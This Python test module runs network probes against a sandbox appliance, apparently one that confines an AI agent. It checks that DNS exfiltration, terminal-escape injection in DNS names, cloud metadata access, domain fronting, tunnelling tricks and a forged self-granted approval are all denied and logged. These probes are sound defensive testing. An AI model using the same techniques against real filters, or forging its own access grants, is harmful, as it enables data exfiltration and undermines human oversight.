"""The network group: the legitimate flows the policy allows, then an attack for each class
of THREATS.md the filter and the firewall stop (T1-T11, T13, T18, and T33: text a person's
terminal would act on, recorded escaped). Each says which event or counter must record its
denial (`expect`); appliance/sandbox/battery.py checks it.
"""

from __future__ import annotations

import errno
import os
import secrets
import socket
import string

from .registry import FAST, NotRun, Outcome, probe
from .wire import (
    Stream,
    connect_via_proxy,
    dns_query,
    dns_query_labels,
    first_line,
    from_origin,
    host_seen,
    https_get,
    proxy_request,
    read_head,
    refused,
    resolve,
    resolve_query,
    status,
    tcp,
    tls_denied,
    tunnel,
)


def _refused_outcome(host, port, firewall=True) -> Outcome:
    """A connection the firewall must refuse (and, unless told otherwise, report)."""
    try:
        tcp(host, port).close()
        ok, detail = False, f"connected to {host}:{port}"
    except OSError as exc:
        ok, detail = refused(exc), f"{host}:{port}: {type(exc).__name__}: {exc}"
    expect = {"kind": "firewall", "address": host, "port": port} if firewall else None
    return Outcome(ok, detail, expect)


# -- legitimate flows -------------------------------------------------------------------


@probe("dns-allowed", 0, legit=True)
def dns_allowed(ctx):
    rcode, addresses = resolve(ctx.args, ctx.args.allowed)
    v4 = [a for a in addresses if ":" not in a]
    return Outcome(rcode == 0 and bool(v4),
                   f"{ctx.args.allowed} -> {', '.join(addresses) or rcode}")


@probe("https-via-proxy", 0, legit=True)
def https_via_proxy(ctx):
    a = ctx.args
    sock, head = connect_via_proxy(a, f"{a.allowed}:443")
    if status(head) != 200:
        sock.close()
        return Outcome(False, first_line(head))
    reply = https_get(a, sock, a.allowed)
    return Outcome(from_origin(reply), f"CONNECT {a.allowed}:443 then {first_line(reply)}")


@probe("http-via-proxy", 0, legit=True)
def http_via_proxy(ctx):
    a = ctx.args
    head = proxy_request(a, f"GET http://{a.allowed}/selftest HTTP/1.1\r\nHost: {a.allowed}"
                         "\r\nConnection: close\r\n\r\n".encode())
    return Outcome(from_origin(head), first_line(head))


@probe("https-without-proxy", 4, legit=True)
def https_without_proxy(ctx):
    reply = https_get(ctx.args, tcp(ctx.allowed_ip(), 443), ctx.args.allowed)
    return Outcome(from_origin(reply), f"direct TLS to {ctx.allowed_ip()}: {first_line(reply)}")


@probe("tcp-rule-by-name", 0, legit=True, needs="tcp_name")
def tcp_rule_by_name(ctx):
    name, port = ctx.args.tcp_name.rsplit(":", 1)
    rcode, addresses = resolve(ctx.args, name)
    if not addresses:
        return Outcome(False, f"{name}: rcode {rcode}, no address")
    with tcp(addresses[0], int(port)) as sock:
        banner = sock.recv(64)
    return Outcome(bool(banner), f"{name}:{port} -> {banner[:30]!r}")


@probe("host-port-rewritten", 11, legit=True)
def host_port_rewritten(ctx):
    """An absolute-form target replaces the Host header (RFC 9112 §3.2.2): a Host that only
    writes the port differently is not refused, and the origin gets the target's host."""
    a = ctx.args
    with tcp(a.gateway, a.proxy_port) as sock:
        sock.sendall(f"GET http://{a.allowed}/ HTTP/1.1\r\nHost: {a.allowed}:8080\r\n"
                     "Connection: close\r\n\r\n".encode())
        head, body = Stream(sock).response()
    host_ok, seen = host_seen(body, a.allowed)
    return Outcome(from_origin(head) and host_ok,
                   f"target {a.allowed}, Host {a.allowed}:8080: {first_line(head)} ({seen})")


# -- the classes of THREATS.md ----------------------------------------------------------


@probe("dns-exfiltration", 1, records="dns event for the name; the upstream never sees it")
def dns_exfiltration(ctx):
    secret = "".join(secrets.choice(string.ascii_lowercase + string.digits) for _ in range(24))
    name = f"{secret}.exfil.{ctx.args.denied}"
    rcode, _ = resolve(ctx.args, name)
    return Outcome(rcode == 3, f"{name}: rcode {rcode} (NXDOMAIN = 3)",
                   {"kind": "dns", "name": name})


def recorded_name(labels: list[bytes]) -> str:
    """How the filter records a name that is no host name: its labels' printable ASCII as
    is, every other byte (and a label's own dot, space and backslash) as \\xNN."""
    return ".".join("".join(chr(b) if 0x21 <= b <= 0x7E and b not in b".\\" else
                            f"\\x{b:02x}" for b in label) for label in labels)


@probe("hostile-name-recorded-escaped", 33, records="dns event for the name, escaped (\\xNN "
       "for every byte a terminal would act on), never as sent")
def hostile_name_recorded_escaped(ctx):
    """What `corral monitor`, `monitor --ask` and `corral audit` show a person: a name whose
    labels hold an OSC 52 clipboard write, a title change, CR and an erase that redraw a
    line, a raw C1 CSI, a right-to-left override, a zero-width space, and words imitating
    corral's own prompt. NXDOMAIN, and the record carries it escaped, so that it replays
    safely wherever it is read."""
    token = secrets.token_hex(4).encode()
    labels = [b"\x1b]52;c;Y29ycmFs\x07\x1b]0;ok\x07", b"\r\x1b[2K\x1b[1A\x9b2J\xc2\x9b",
              b"\xe2\x80\xae" + token + b"\xe2\x80\x8b\x08\x7f",
              b"ap-" + token + b": session s1 asks for http github", b"com"]
    rcode, _ = resolve_query(ctx.args, dns_query_labels(labels))
    shown = recorded_name(labels)
    return Outcome(rcode == 3, f"{shown}: rcode {rcode} (NXDOMAIN = 3)",
                   {"kind": "dns", "name": shown})


@probe("foreign-resolver-udp", 2, records="firewall event for the resolver, port 53")
def foreign_resolver_udp(ctx):
    a = ctx.args
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(FAST)
        sock.connect((a.foreign_resolver, 53))
        sock.send(dns_query(a.allowed))
        try:
            sock.recv(4096)
            ok, detail = False, "a foreign resolver answered"
        except OSError as exc:
            ok, detail = refused(exc), f"{type(exc).__name__}: {exc}"
    return Outcome(ok, detail, {"kind": "firewall", "address": a.foreign_resolver, "port": 53})


for _port, _id in ((53, "foreign-resolver-tcp"), (853, "dns-over-tls")):
    probe(_id, 2, records=f"firewall event for the resolver, port {_port}")(
        lambda ctx, port=_port: _refused_outcome(ctx.args.foreign_resolver, port))


@probe("dns-over-https-denied-host", 2, records="connect event for dns.DENIED")
def dns_over_https_denied_host(ctx):
    sock, head = connect_via_proxy(ctx.args, f"dns.{ctx.args.denied}:443")
    sock.close()
    return Outcome(status(head) == 403, first_line(head),
                   {"kind": "connect", "name": f"dns.{ctx.args.denied}"})


@probe("ipv6-literal", 3, records="the deny_ipv6 counter (when the packet reached the "
       "appliance)")
def ipv6_literal(ctx):
    outcome = _refused_outcome(ctx.args.v6_target, 443, firewall=False)
    if "Network is unreachable" in outcome.detail:
        outcome.detail += " (no IPv6 route in this sandbox at all)"
    else:  # it reached the appliance, so the firewall must have counted it
        outcome.expect = {"kind": "counter", "counter": "deny_ipv6"}
    return outcome


@probe("ipv6-aaaa-answers", 3, records="the deny_ipv6 counter (when a packet reached the "
       "appliance)")
def ipv6_aaaa_answers(ctx):
    rcode, addresses = resolve(ctx.args, ctx.args.allowed, qtype=28)
    reached, left = [], False
    for address in [a for a in addresses if ":" in a]:
        try:
            tcp(address, 443).close()
            reached.append(address)
        except OSError as exc:
            if not refused(exc):
                reached.append(f"{address} ({exc})")
            left = left or exc.errno != errno.ENETUNREACH
    detail = (f"AAAA {ctx.args.allowed} (rcode {rcode}): {', '.join(addresses) or 'no answer'}; "
              + (f"reached {reached}" if reached else "no IPv6 path"))
    # a packet that reached the appliance must have been counted by the firewall
    return Outcome(rcode == 0 and not reached, detail,
                   {"kind": "counter", "counter": "deny_ipv6"} if left else None)


@probe("v4-mapped-via-proxy", 3, records="connect event for the allowed IP")
def v4_mapped_via_proxy(ctx):
    sock, head = connect_via_proxy(ctx.args, f"[::ffff:{ctx.allowed_ip()}]:443")
    sock.close()
    return Outcome(status(head) == 403, first_line(head),
                   {"kind": "connect", "name": ctx.allowed_ip()})


@probe("noproxy-denied-name-same-ip", 6, records="tls event for DENIED")
def noproxy_denied_name_same_ip(ctx):
    ok, detail = tls_denied(ctx.args, tcp(ctx.allowed_ip(), 443), ctx.args.denied)
    return Outcome(ok, detail, {"kind": "tls", "name": ctx.args.denied})


@probe("noproxy-http-denied-host", 4, records="http event for DENIED")
def noproxy_http_denied_host(ctx):
    with tcp(ctx.allowed_ip(), 80) as sock:
        sock.sendall(f"GET / HTTP/1.1\r\nHost: {ctx.args.denied}\r\nConnection: close\r\n\r\n"
                     .encode())
        head = read_head(sock)
    return Outcome(status(head) == 403, first_line(head), {"kind": "http", "name": ctx.args.denied})


@probe("direct-ip-via-proxy", 5, records="connect event for the allowed IP")
def direct_ip_via_proxy(ctx):
    sock, head = connect_via_proxy(ctx.args, f"{ctx.allowed_ip()}:443")
    sock.close()
    return Outcome(status(head) == 403, first_line(head),
                   {"kind": "connect", "name": ctx.allowed_ip()})


@probe("direct-ip-tls-without-sni", 5, records="tls event, reason 'without SNI'")
def direct_ip_tls_without_sni(ctx):
    ok, detail = tls_denied(ctx.args, tcp(ctx.allowed_ip(), 443), None)
    return Outcome(ok, detail, {"kind": "tls", "reason": "without SNI"})


@probe("direct-ip-other-port", 5, records="firewall event for the allowed IP, port 8443")
def direct_ip_other_port(ctx):
    return _refused_outcome(ctx.allowed_ip(), 8443)


@probe("rebinding-private-answer", 7, needs="private_name",
       records="connect event for the private name")
def rebinding_private_answer(ctx):
    name = ctx.args.private_name
    _, addresses = resolve(ctx.args, name)
    sock, head = connect_via_proxy(ctx.args, f"{name}:443")
    sock.close()
    return Outcome(status(head) == 403 and not addresses,
                   f"DNS gave {addresses or 'no address'}; proxy: {first_line(head)}",
                   {"kind": "connect", "name": name})


@probe("metadata-via-proxy", 8, records="connect event for 169.254.169.254")
def metadata_via_proxy(ctx):
    sock, head = connect_via_proxy(ctx.args, "169.254.169.254:80")
    sock.close()
    return Outcome(status(head) == 403, first_line(head),
                   {"kind": "connect", "name": "169.254.169.254"})


@probe("metadata-direct", 8, records="http event for 169.254.169.254")
def metadata_direct(ctx):
    with tcp("169.254.169.254", 80) as sock:
        sock.sendall(b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n"
                     b"Connection: close\r\n\r\n")
        head = read_head(sock)
    return Outcome(status(head) == 403, f"redirected to the filter: {first_line(head)}",
                   {"kind": "http", "name": "169.254.169.254"})


@probe("private-range-direct", 8, records="firewall event for 10.0.0.1, port 22")
def private_range_direct(ctx):
    return _refused_outcome("10.0.0.1", 22)


@probe("gateway-ssh", 9, records="firewall event for the gateway, port 22")
def gateway_ssh(ctx):
    return _refused_outcome(ctx.args.gateway, 22)


@probe("gateway-admin-api", 9, records="firewall event for the gateway, the API's port")
def gateway_admin_api(ctx):
    return _refused_outcome(ctx.args.gateway, ctx.args.api_port)


def _proxy_to(ctx, target):
    sock, head = connect_via_proxy(ctx.args, target)
    sock.close()
    return Outcome(status(head) == 403, first_line(head),
                   {"kind": "connect", "name": target.rsplit(":", 1)[0]})


probe("proxy-to-loopback", 9, records="connect event for 127.0.0.1")(
    lambda ctx: _proxy_to(ctx, "127.0.0.1:22"))
probe("proxy-to-gateway", 9, records="connect event for the gateway")(
    lambda ctx: _proxy_to(ctx, f"{ctx.args.gateway}:22"))


@probe("other-session-gateway", 9, needs="other_gateway",
       records="firewall event for the other gateway")
def other_session_gateway(ctx):
    return _refused_outcome(ctx.args.other_gateway, ctx.args.proxy_port)


@probe("quic-udp-443", 10, records="firewall event for the allowed IP, port 443")
def quic_udp_443(ctx):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(FAST)
        sock.connect((ctx.allowed_ip(), 443))
        sock.send(b"\xc0\x00\x00\x00\x01" + os.urandom(40))
        try:
            sock.recv(2048)
            ok, detail = False, "a UDP answer came back"
        except OSError as exc:
            ok, detail = refused(exc), f"{type(exc).__name__}: {exc}"
    return Outcome(ok, detail, {"kind": "firewall", "address": ctx.allowed_ip(), "port": 443})


@probe("icmp-echo", 10, records="firewall event for the allowed IP (no port)")
def icmp_echo(ctx):
    try:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    except OSError as exc:
        raise NotRun(f"no ICMP socket for this user ({exc}): the sandbox's "
                     "net.ipv4.ping_group_range must include its group") from None
    with sock:
        sock.settimeout(FAST)
        sock.setsockopt(socket.IPPROTO_IP, 11, 1)  # IP_RECVERR: report ICMP errors
        sock.connect((ctx.allowed_ip(), 0))
        sock.send(b"\x08\x00\x00\x00\x00\x01\x00\x01corral")
        try:
            sock.recv(2048)
            ok, detail = False, "an echo reply came back"
        except OSError as exc:
            ok, detail = refused(exc), f"{type(exc).__name__}: {exc}"
    return Outcome(ok, detail, {"kind": "firewall", "address": ctx.allowed_ip(), "port": None})


@probe("connect-inside-tunnel", 11, records="connect event, reason 'CONNECT inside a tunnel'")
def connect_inside_tunnel(ctx):
    a = ctx.args
    with tunnel(a, 80) as sock:
        sock.sendall(f"CONNECT {a.denied}:443 HTTP/1.1\r\nHost: {a.denied}:443\r\n\r\n".encode())
        inner = read_head(sock)
    return Outcome(status(inner) == 403, f"inner CONNECT: {first_line(inner)}",
                   {"kind": "connect", "reason": "CONNECT inside a tunnel"})


@probe("host-header-mismatch", 11, records="http event, reason 'differs from the request "
       "target'")
def host_header_mismatch(ctx):
    a = ctx.args
    head = proxy_request(a, f"GET http://{a.allowed}/ HTTP/1.1\r\nHost: {a.denied}\r\n\r\n"
                         .encode())
    return Outcome(status(head) == 403, first_line(head),
                   {"kind": "http", "reason": "differs from the request target"})


@probe("domain-fronting", 13, records="connect event, reason 'domain fronting'")
def domain_fronting(ctx):
    a = ctx.args
    ok, detail = tls_denied(a, tunnel(a, 443), a.denied)
    return Outcome(ok, f"TLS to {a.denied} inside a tunnel to {a.allowed}: {detail}",
                   {"kind": "connect", "reason": "domain fronting"})


@probe("malformed-dns", 18, records="dns event, reason 'malformed'")
def malformed_dns(ctx):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(FAST)
        sock.connect((ctx.args.gateway, ctx.args.dns_port))
        sock.send(b"\x13\x37\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\xff\xfe\xfd")
        reply = sock.recv(4096)
    return Outcome(reply[:2] == b"\x13\x37" and reply[3] & 0x0F == 1,
                   f"rcode {reply[3] & 0x0F} (FORMERR = 1)", {"kind": "dns", "reason": "malformed"})


@probe("giant-header", 18, records="http event, reason 'larger than'")
def giant_header(ctx):
    a = ctx.args
    head = proxy_request(a, f"GET http://{a.allowed}/ HTTP/1.1\r\nX-Pad: ".encode()
                         + b"a" * 100_000 + b"\r\n\r\n")
    return Outcome(status(head) == 431, first_line(head), {"kind": "http", "reason": "larger than"})



# -- T24: the sandbox holds placeholders, never secrets; a placeholder goes nowhere else ---


def _placeholder() -> str:
    """Shaped as the filter's placeholders are (`corral-secret-<name>-<hex>`)."""
    return f"corral-secret-probe-{secrets.token_hex(16)}"


@probe("placeholder-in-a-name", 24, records="dns event for the name, reason 'placeholder'")
def placeholder_in_a_name(ctx):
    name = f"{_placeholder()}.{ctx.args.allowed}"
    rcode, _ = resolve(ctx.args, name)
    return Outcome(rcode == 3, f"{name[:40]}...: rcode {rcode} (NXDOMAIN = 3)",
                   {"kind": "dns", "name": name, "reason": "placeholder"})


@probe("placeholder-to-an-allowed-host", 24, records="secret event for the allowed host")
def placeholder_to_an_allowed_host(ctx):
    a = ctx.args
    head = proxy_request(a, f"GET http://{a.allowed}/selftest?key={_placeholder()} HTTP/1.1\r\n"
                         f"Host: {a.allowed}\r\nConnection: close\r\n\r\n".encode())
    return Outcome(status(head) == 403 and b"placeholder" in head, first_line(head),
                   {"kind": "secret", "name": a.allowed})


@probe("approval-not-self-granted", 15, records="connect event for DENIED, after the asks")
def approval_not_self_granted(ctx):
    """The agent may ask a person for a host (request.corral, through the proxy) but never
    grant it: an ask that names a grant is refused, a plain one is left for a person (or
    refused), and the host stays denied. (In ask mode the CONNECT would wait for a person:
    the battery runs in sessions that deny at once.)"""
    a = ctx.args
    base = f"GET http://request.corral/?host={a.denied}:443&reason=corral+selftest"
    forged = proxy_request(a, f"{base}&grant=session HTTP/1.1\r\nHost: request.corral\r\n"
                           "Connection: close\r\n\r\n".encode())
    asked = proxy_request(a, f"{base} HTTP/1.1\r\nHost: request.corral\r\n"
                          "Connection: close\r\n\r\n".encode())
    sock, head = connect_via_proxy(a, f"{a.denied}:443")
    sock.close()
    ok = status(forged) == 400 and status(asked) in (202, 403) and status(head) == 403
    return Outcome(ok, f"an ask naming a grant: {first_line(forged)}; a plain ask: "
                   f"{first_line(asked)}; then CONNECT {a.denied}:443: {first_line(head)}",
                   {"kind": "connect", "name": a.denied})
